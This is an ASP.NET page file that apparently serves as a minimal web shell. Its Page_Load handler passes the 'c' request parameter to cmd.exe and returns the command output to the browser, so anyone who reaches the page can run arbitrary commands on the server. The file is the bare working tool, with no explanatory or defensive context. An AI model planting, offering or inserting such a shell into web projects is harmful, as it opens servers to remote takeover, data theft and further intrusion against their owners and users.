<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]);
    si.RedirectStandardOutput = true;
    si.UseShellExecute = false;
    Response.Write(Process.Start(si).StandardOutput.ReadToEnd());
}
</script>
